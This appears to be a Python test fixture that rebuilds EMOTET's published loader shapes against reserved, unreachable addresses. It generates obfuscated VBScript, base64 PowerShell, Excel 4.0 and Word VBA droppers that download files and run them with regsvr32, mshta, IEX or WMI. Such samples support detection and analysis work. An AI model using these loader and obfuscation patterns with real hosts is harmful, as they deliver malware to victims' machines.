"""The published shapes of EMOTET's scripts and macros, rewritten to addresses that belong to nobody.

Every URL and address is reserved (RFC 2606 names, RFC 5737 blocks), so nothing can be fetched, and no command starts
anything but what a fetch would have brought. The texts are fixed: there is nothing to set.

Source: the public notes of April 2022, January 2022 and September 2020 that the cases name.
"""

from __future__ import annotations

from base64 import b64encode

SHOPS = ("flower-shop", "bakery", "tile-works", "old-books", "garden-tea", "bike-repair")
FOLDERS = (
    "wp-content/JxQ2mVb",
    "wp-admin/K7tRwZ",
    "cgi-bin/uYp04",
    "wp-content/Lq8sHdN",
    "wp-includes/a3Fv",
    "wp-admin/Tz61k",
)
SHOP_NET = "198.51.100."  # the shops' names resolve to .101 and following
BEACONS = ("198.51.100.23", "203.0.113.77", "192.0.2.146")
BEACON_PORT = 8080
LABEL = "synthetic lab text, inert: reserved addresses only (RFC 5737, RFC 2606)"

VBS_MARK = "glKmfOKnQLYKnNs"
VBS_NAME = "YlScZcZKeP.vbs"
VBS_BYTES = 3008  # published size of the script behind the shortcut
VBS_LIBRARY = "hKzPqWvBnT.dll"
PS1_NAME = "sNhYaMMPOU.ps1"
PS1_LIBRARY = "QhOeDmXsRb.yyy"
PADDING = 110  # blanks before the part that shows in no dialog
XLM_LIBRARY = "xdwno.ocx"
HEX_URL = "http://0xcb00710a/fer/fe3.html"  # 203.0.113.10
OCTAL_URL = "http://0313.0000.0161.0012/c.html"  # 203.0.113.10
HTA_HOST = "203.0.113.10"
PNG_URL = f"http://{HTA_HOST}/fer/fer.png"
HTA_LIBRARY = "C:\\ProgramData\\QWER.dll"
VBA_FOLDER, VBA_PROGRAM = "\\word\\2019\\", "Dyxxur4gx.exe"
JUNK = "][hs5"


def fallback_urls(first: int) -> tuple[str, ...]:
    """Give a case's six URLs, starting with another shop for each ``first``."""
    order = [(first + step) % len(SHOPS) for step in range(len(SHOPS))]
    return tuple(f"http://{SHOPS[at]}.example/{FOLDERS[(at + first) % len(FOLDERS)]}/" for at in order)


def shop_address(url: str) -> tuple[str, str]:
    """Give host name and address of one of those URLs."""
    host = url.split("/")[2]
    return host, f"{SHOP_NET}{101 + SHOPS.index(host.removesuffix('.example'))}"


def caret(text: str) -> str:
    """Give a command's words with carets strewn in, as published."""
    return text.replace("mshta", "m^sh^t^a").replace("http://", "h^tt^p^:/^/")


def vbs_overlay(urls: tuple[str, ...]) -> bytes:
    """Give the script that findstr cuts out of the shortcut: every line carries the mark, 3,008 bytes in all."""
    mark = VBS_MARK
    links = ", ".join(f"{mark}A & {_pieces(url.removeprefix('http://'), 7)}" for url in urls)
    lines = [
        f"'{mark} {LABEL}",
        f'{mark}A = "h" & "tt" & "p:" & "/" & "/"',
        f"{mark}B = Array({links})",
        f'Set {mark}H = CreateObject("MSX" & "ML2.Se" & "rverXM" & "LHTTP")',
        f'Set {mark}S = CreateObject("ADO" & "DB.St" & "ream")',
        f'Set {mark}W = CreateObject("WScr" & "ipt.Sh" & "ell")',
        f'{mark}P = {mark}W.ExpandEnvironmentStrings("%T" & "EMP%") & Chr(92) & {_pieces(VBS_LIBRARY, 5)}',
        f"On Error Resume Next '{mark}",
        f"For Each {mark}U In {mark}B",
        f'{mark}H.Open "G" & "ET", {mark}U, False',
        f"{mark}H.Send",
        f"If {mark}H.Status = 200 Then",
        f"{mark}S.Type = 1",
        f"{mark}S.Open",
        f"{mark}S.Write {mark}H.ResponseBody",
        f"{mark}S.SaveToFile {mark}P, 2",
        f"{mark}S.Close",
        f'{mark}W.Run StrReverse("23rvsger") & ".e" & "xe " & Chr(34) & {mark}P & Chr(34), 0, False',
        f"Exit For '{mark}",
        f"End If '{mark}",
        f"Next '{mark}",
        f"'{mark} ",
    ]
    text = "\r\n" + "\r\n".join(lines)
    filler = VBS_BYTES - len(text) - 2
    return (text + ("qWxZ" * filler)[:filler] + "\r\n").encode("ascii")


def _pieces(text: str, step: int) -> str:
    """Give text as a concatenation of short string constants."""
    return " & ".join(f'"{text[at : at + step]}"' for at in range(0, len(text), step))


def vbs_arguments(own_name: str) -> str:
    """Give the arguments of the shortcut that carries the script behind its end."""
    script = f'"%tmp%\\{VBS_NAME}"'
    return f'/v:on /c findstr "{VBS_MARK}.*" "{own_name}" > {script} & {script}'


def powershell_script(urls: tuple[str, ...]) -> str:
    """Give the script that the PowerShell shortcut writes and runs."""
    links = ",".join(f'"{url}"' for url in urls)
    target = f"$env:TEMP/{PS1_LIBRARY}"
    return (
        f'$ProgressPreference="SilentlyContinue";$links=({links});'
        f"foreach($u in $links){{try{{IWR $u -OutFile {target};Regsvr32.exe {target};break}}catch{{}}}} # {LABEL}"
    )


def powershell_arguments(own_name: str, urls: tuple[str, ...]) -> str:
    """Give the arguments of the shortcut that carries its script in base64."""
    encoded = b64encode(powershell_script(urls).encode("ascii")).decode("ascii")
    script = f'"$env:TEMP\\{PS1_NAME}"'
    return (
        f'-command Out-String -InputObject "{own_name}{" " * PADDING}" | Out-Null; '
        "[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String("
        f"'{encoded}')) > {script}; "
        f"powershell -executionpolicy bypass -file {script}; Remove-Item -Force {script}"
    )


def xlm_lines(urls: tuple[str, ...]) -> tuple[str, ...]:
    """Give the formulas that the macro sheet puts together at run time, in the order of its cells."""
    calls = [f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","..\\{XLM_LIBRARY}",0,0)' for url in urls]
    rest = [f"=IF(HRHRE{number}<0,{call})" for number, call in enumerate(calls[1:], 1)]
    last = (f"=IF(HRHRE{len(calls)}<0,CLOSE(0))", f'=EXEC("{xlm_command()}")', "=RETURN()")
    return (f"={calls[0]}", *rest, *last)


def xlm_command() -> str:
    """Give the command that the sheet starts last."""
    return f"C:\\Windows\\System32\\regsvr32.exe ..\\{XLM_LIBRARY}"


def hta_command(url: str) -> str:
    """Give the command that a sheet starts, with its carets."""
    return f"cmd /c {caret(f'mshta {url}')}"


def hta_powershell() -> str:
    """Give the command that the page behind that URL starts."""
    hidden = f"(New-Object Net.WebClient).DownloadString(''{PNG_URL}'')"
    for word in ("New-Obj", "WebCl", "Downl", "oadStr"):
        hidden = hidden.replace(word, "{GOOGLE}" + word[:2] + "{GOOGLE}" + word[2:])
    return f"-noexit $c1='{hidden}'.replace('{{GOOGLE}}', '');I`E`X $c1|I`E`X"


def vba_command(urls: tuple[str, ...]) -> str:
    """Give the command that the document's macro has WMI start."""
    script = (
        f"$d=$env:TEMP+'{VBA_FOLDER}';&('new-'+'item') $d -ItemType dIrectory -Force|out-null;"
        f"$f=$d+'{VBA_PROGRAM.partition('.')[0]}'+'.e'+'xe';$c=&('new-ob'+'ject') neT.webclIent;"
        f"$l='{'*'.join(urls)}'.('sp'+'lit').Invoke([char]42);"
        "foreach($u in $l){try{$c.('downlo'+'adfile').Invoke($u,$f);"
        "If((&('Get-It'+'em') $f).length -ge 34163){&('Start-Pro'+'cess') $f;break}}catch{}}"
        f" # {LABEL}"
    )
    return f"powershell -e {b64encode(script.encode('utf-16-le')).decode('ascii')}"


def vba_modules(command: str) -> dict[str, str]:
    """Give the modules of the macro document: the opening event, and the string that is put together piece by piece."""
    step, rows = 24, []
    for at in range(0, len(command), step):
        piece = command[at : at + step]
        middle = len(piece) // 2
        rows.append(f'    Xkq4r = Xkq4r & "{piece[:middle]}{JUNK}{piece[middle:]}"')
    wmi, startup = (_strewn(name) for name in ("winmgmts:Win32_Process", "winmgmts:Win32_ProcessStartup"))
    module = [
        f"' {LABEL}",
        "Function Tzn8v(Wcd2p)",
        f'    Tzn8v = Replace(Wcd2p, "{JUNK}", "")',
        "End Function",
        "Function Bvd7n()",
        "    Dim Xkq4r",
        *rows,
        "    Bvd7n = Tzn8v(Xkq4r)",
        "End Function",
        "Sub Rgm3w()",
        f'    Set Hjy6t = GetObject(Tzn8v("{startup}"))',
        "    Hjy6t.ShowWindow = 7 - 7",
        f'    GetObject(Tzn8v("{wmi}")).Create Bvd7n(), Null, Hjy6t, Pfe1z',
        "End Sub",
    ]
    document = ["Private Sub Document_Open()", "    Rgm3w", "End Sub"]
    return {"ThisDocument": "\n".join(document), "Nlw5s": "\n".join(module)}


def _strewn(text: str) -> str:
    return JUNK.join(text[at : at + 4] for at in range(0, len(text), 4))
